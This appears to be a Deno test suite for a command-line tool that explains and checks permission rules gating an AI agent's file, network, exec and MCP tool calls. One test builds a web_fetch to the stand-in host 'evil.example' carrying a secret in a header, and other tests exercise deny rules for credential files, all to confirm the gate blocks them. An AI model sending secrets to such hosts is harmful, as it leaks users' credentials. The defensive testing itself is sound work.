import { assertEquals, assertMatch, assertRejects, assertStringIncludes } from "@std/assert";
import type { SecretScope } from "../../lib/policy/secret_scope.ts";
import { openOperatorState } from "../../lib/state/operator_state.ts";
import { policyTestFile } from "../../lib/config/paths.ts";
import { type TempHome, tempHome } from "../../lib/config/testing/temp_home.ts";
import { ServiceError } from "../../lib/base/errors.ts";
import { EXIT } from "../command.ts";
import { parseCommand, parseHead } from "../parse.ts";
import { memoryOutput } from "../testing/memory_output.ts";
import command, { runPolicy } from "./policy.ts";

interface Options {
  /** Throws when it is an error. */
  secrets?: readonly SecretScope[] | Error;
  confined?: boolean;
  addresses?: readonly string[] | { reason: string };
}

/** Runs a command line in a home. */
async function run(home: TempHome, line: string[], options: Options = {}) {
  const { out, stdout, stderr } = memoryOutput();
  const parsed = parseCommand("policy", command, parseHead(["policy", ...line]));
  const lookedUp: string[] = [];
  const exit = await runPolicy({ ...parsed, out }, {
    paths: home.paths,
    env: home.env,
    lastGood: parsed.globals.lastGood,
    findSandbox: () =>
      Promise.resolve({ confined: options.confined ?? true, reason: "as the test says" }),
    secrets() {
      if (options.secrets instanceof Error) throw options.secrets;
      return options.secrets ?? [];
    },
    lookUp(host) {
      lookedUp.push(host);
      return Promise.resolve(options.addresses ?? { reason: "unexpected" });
    },
  });
  return { exit, stdout: stdout.text, stderr: stderr.text, lookedUp };
}

async function explain(home: TempHome, line: string[], options?: Options) {
  const { stdout, lookedUp } = await run(home, ["explain", ...line, "--json"], options);
  const { decision, target, change } = JSON.parse(stdout);
  return {
    decided: `${decision.effect} ${decision.rule}`,
    source: decision.source,
    target,
    change,
    lookedUp,
  };
}

/** Every file below a folder with its size and time, to compare. */
async function tree(path: string): Promise<string[]> {
  const found: string[] = [];
  for await (const { name, isDirectory } of Deno.readDir(path)) {
    const { size, mtime } = await Deno.stat(`${path}/${name}`);
    found.push(`${path}/${name} ${size} ${mtime?.getTime()}`);
    if (isDirectory) found.push(...await tree(`${path}/${name}`));
  }
  return found.sort();
}

const RULES = [
  {
    name: "team.secrets",
    effect: "deny",
    capabilities: ["fs.read", "fs.write"],
    targets: ["workspace/secrets/**"],
    reason: "never",
  },
  { name: "team.pages", effect: "allow", capabilities: ["net.fetch"], targets: ["*.example.com"] },
];

Deno.test("policy show prints fixed, own and default rules in the order in which they are tried", async () => {
  await using home = await tempHome();
  await home.write({ gates: { rules: RULES, messageTargets: ["telegram:5"] } });
  const { rules, messageTargets } = JSON.parse((await run(home, ["show", "--json"])).stdout);
  const order = rules.map(({ source }: { source: string }) => source);
  assertEquals([...new Set(order)], ["fixed", "gates.rules", "default"]);
  assertEquals(
    order,
    order.toSorted((a: string, b: string) =>
      ["fixed", "gates.rules", "default"].indexOf(a) -
      ["fixed", "gates.rules", "default"].indexOf(b)
    ),
  );
  const secrets = rules.find(({ name }: { name: string }) => name === "team.secrets");
  assertEquals([secrets.effect, secrets.targets, secrets.reason], [
    "deny",
    ["workspace/secrets/**"],
    "never",
  ]);
  assertEquals(messageTargets, ["telegram:5"]);
  const { stdout } = await run(home, []);
  assertMatch(stdout, /team\.secrets +fs\.read, fs\.write on workspace\/secrets\/\*\*: never/);
});

Deno.test("policy show prints no secret that stands in a host or a rule", async () => {
  await using home = await tempHome();
  const { operatorDir: dir, keysDir } = home.paths;
  const state = await openOperatorState({ dir, keysDir });
  await state.secrets.set({ name: "TENANT", value: "tenant-0123456789" });
  await state.close();
  await home.write({
    gates: {
      privateHosts: ["${secret:TENANT}.example"],
      rules: [{ ...RULES[1], targets: ["x.${secret:TENANT}.example"] }],
    },
    executor: { hosts: ["${secret:TENANT}.example"] },
  });
  for (const line of [["show"], ["show", "--json"]]) {
    const { stdout } = await run(home, line);
    assertStringIncludes(stdout, "[secret TENANT].example");
    assertEquals(stdout.includes("tenant-0123456789"), false, stdout);
  }
});

Deno.test("policy explain names rule, reason and what would change it", async () => {
  await using home = await tempHome();
  await home.write({ gates: { rules: RULES } });
  const denied = await explain(home, ["read_file", '{"path":"secrets/a"}']);
  assertEquals([denied.decided, denied.source], ["deny team.secrets", "gates.rules"]);
  assertStringIncludes(denied.change, "gates.rules[0]");
  const alone = await explain(home, ["read_file", '{"path":"a b"}', "--unattended"]);
  assertEquals(alone.decided, "deny unattended");
  const real = await Deno.realPath(home.paths.home);
  assertStringIncludes(
    alone.change,
    `service grants add cli:default fs.read '${real}/workspace/a b'`,
  );
  const own = await explain(home, ["read_file", JSON.stringify({ path: home.paths.configFile })]);
  assertEquals([own.decided, own.source], ["deny own", "fixed"]);
  assertStringIncludes(own.change, "no rule can change it");
  const cases = JSON.stringify({ path: policyTestFile(home.paths) });
  assertEquals((await explain(home, ["read_file", cases])).decided, "deny own");
  const credentials = await explain(home, ["read_file", '{"path":".env"}']);
  assertEquals(credentials.decided, "deny credentials");
  assertStringIncludes(credentials.change, "without wildcards");
  const text = await run(home, ["explain", "read_file", '{"path":"a"}']);
  assertEquals(text.exit, EXIT.done);
  assertStringIncludes(text.stdout, "rule:    workspace.read (default)");
});

Deno.test("policy explain judges for channel, actor, session and the person's hosts", async () => {
  await using home = await tempHome();
  await home.write({
    gates: {
      rules: [
        { name: "team.chat", effect: "deny", channels: ["telegram"], actors: ["telegram:5"] },
      ],
    },
  });
  const read = ["read_file", '{"path":"a"}'];
  const as = async (...more: string[]) => (await explain(home, [...read, ...more])).decided;
  assertEquals(await as(), "allow workspace.read");
  assertEquals(await as("--channel", "telegram"), "allow workspace.read");
  assertEquals(await as("--actor", "telegram:5"), "allow workspace.read");
  assertEquals(await as("--channel", "telegram", "--actor", "telegram:5"), "deny team.chat");
  const fetch = ["web_fetch", '{"url":"https://a.example/"}'];
  assertEquals((await explain(home, fetch)).decided, "ask fetch.other");
  assertEquals(
    (await explain(home, [...fetch, "--person-host", "A.example"])).decided,
    "allow fetch.person",
  );
  const session = await explain(home, [...read, "--unattended", "--session", "api:x"]);
  assertStringIncludes(session.change, "service grants add api:x fs.read");
});

Deno.test("G4 policy explain contacts nobody and leaves nothing behind, unless told to resolve", async () => {
  await using home = await tempHome();
  await home.write({ gates: { rules: RULES } });
  const before = await tree(home.root);
  const url = ["web_fetch", '{"url":"https://a.example.com/"}'];
  const told = await explain(home, url, { addresses: ["93.184.216.34"] });
  assertEquals([told.decided, told.lookedUp, told.target.addresses], ["allow team.pages", [], []]);
  await explain(home, ["write_file", '{"path":"a","content":"x"}']);
  await explain(home, ["message", '{"channel":"telegram","chat_id":"5","content":"x"}']);
  assertEquals(await tree(home.root), before);

  const looked = await explain(home, [...url, "--resolve"], { addresses: ["10.0.0.1"] });
  assertEquals([looked.decided, looked.lookedUp], ["deny fetch.private", ["a.example.com"]]);
  // As in the gate, a host that is refused anyway is not looked up.
  const refused = await explain(home, [...url, "--resolve", "--unattended"]);
  assertEquals([refused.decided, refused.lookedUp], ["deny unattended", []]);
});

Deno.test("policy explain speaks of tools of MCP servers, hosts of commands and secrets, and asks nobody", async () => {
  await using home = await tempHome();
  await home.write({
    mcp: { servers: { files: { command: ["files"], allow: ["read"] } } },
    executor: { hosts: ["registry.npmjs.org"] },
  });
  await Deno.mkdir(`${home.paths.home}/workspace`, { recursive: true });
  const read = await explain(home, ["mcp__files__read", '{"path":"a"}']);
  assertEquals(read.decided, "allow mcp.listed");
  const write = await explain(home, ["mcp__files__write", "{}"]);
  assertEquals(write.decided, "ask mcp.other");
  assertStringIncludes(write.change, '"write" in mcp.servers.files.allow');
  const command = (hosts: string[]) =>
    explain(home, ["exec", JSON.stringify({ command: ["true"], hosts })]);
  assertEquals((await command(["registry.npmjs.org"])).decided, "allow exec.listed");
  const elsewhere = await command(["evil.example"]);
  assertEquals(elsewhere.decided, "ask exec.network");
  assertEquals(elsewhere.target.hosts, ["evil.example:443", "evil.example:80"]);

  const args = JSON.stringify({
    url: "https://evil.example/",
    headers: { "X-Key": "${secret:KEY}" },
  });
  const line = ["explain", "web_fetch", args, "--person-host", "evil.example"];
  const secrets = [{ name: "KEY", hosts: ["api.example.com"], commands: [] }];
  const { stdout, lookedUp } = await run(home, line, { secrets });
  assertEquals(lookedUp, []);
  assertStringIncludes(stdout, "allow  net.fetch\ntarget:  https://evil.example/ (headers: x-key)");
  assertStringIncludes(stdout, "deny  secret.use\ntarget:  KEY@evil.example:443");
  assertStringIncludes(stdout, "its scope is hosts: api.example.com");
  const damaged = await run(home, [...line, "--json"], { secrets: new Error("it is damaged") });
  const [use] = JSON.parse(damaged.stdout).secrets;
  assertEquals([use.decision.rule, use.decision.reason], ["secret.unknown", "it is damaged"]);
  const unknown = await assertRejects(
    () => explain(home, ["mcp__mail__send", "{}"]),
    ServiceError,
    'there is no tool "mcp__mail__send"',
  );
  assertStringIncludes(unknown.message, "mcp__files__…");
});

Deno.test("policy explain refuses what would never get to the gate", async () => {
  await using home = await tempHome();
  const wrong: [string[], string, string][] = [
    [["read_fil", "{}"], "invalid_request", 'there is no tool "read_fil"'],
    [["read_file", "{}"], "invalid_request", "path"],
    [["read_file", "["], "usage", "no JSON"],
    [["read_file", "5"], "invalid_request", "expected a JSON object"],
    [["read_file", '{"path":"a"}', "--actor", " "], "usage", "blank"],
  ];
  for (const [line, code, words] of wrong) {
    const error = await assertRejects(() => run(home, ["explain", ...line]), ServiceError);
    assertEquals([line, error.code], [line, code]);
    assertStringIncludes(error.message, words);
  }
});

Deno.test("policy test prints each case and fails when one does not come out as expected", async () => {
  await using home = await tempHome();
  await home.write({ gates: { rules: RULES } });
  const missing = await assertRejects(() => run(home, ["test"]), ServiceError);
  assertEquals(missing.code, "not_found");
  const cases = [
    { name: "notes", tool: "read_file", args: { path: "a" }, expected: "allow" },
    { tool: "read_file", args: { path: "secrets/a" }, expected: "deny" },
  ];
  await Deno.writeTextFile(policyTestFile(home.paths), JSON.stringify(cases));
  const passed = await run(home, ["test"]);
  assertEquals(passed.exit, EXIT.done);
  assertStringIncludes(passed.stdout, "2 passed, 0 failed");

  const other = `${home.root}/other.json`;
  await Deno.writeTextFile(other, JSON.stringify([{ ...cases[0], expected: "deny" }]));
  const failed = await run(home, ["test", other, "--json"]);
  assertEquals(failed.exit, EXIT.failed);
  const { ok, cases: [first] } = JSON.parse(failed.stdout);
  assertEquals([ok, first.passed, first.expected, first.got, first.rule], [
    false,
    false,
    "deny",
    "allow",
    "workspace.read",
  ]);
});

Deno.test("docs/policy.md shows rules that load and cases that hold under them", async () => {
  const text = await Deno.readTextFile(new URL("../../docs/policy.md", import.meta.url));
  const block = (kind: string) => text.match(new RegExp(`\`\`\`${kind}\n([^]*?)\`\`\``))![1]!;
  await using home = await tempHome();
  await home.write(block("jsonc"));
  await Deno.writeTextFile(policyTestFile(home.paths), block("json"));
  const { exit, stdout } = await run(home, ["test"]);
  assertEquals(exit, EXIT.done, stdout);
  assertStringIncludes(stdout, "3 passed, 0 failed");
});
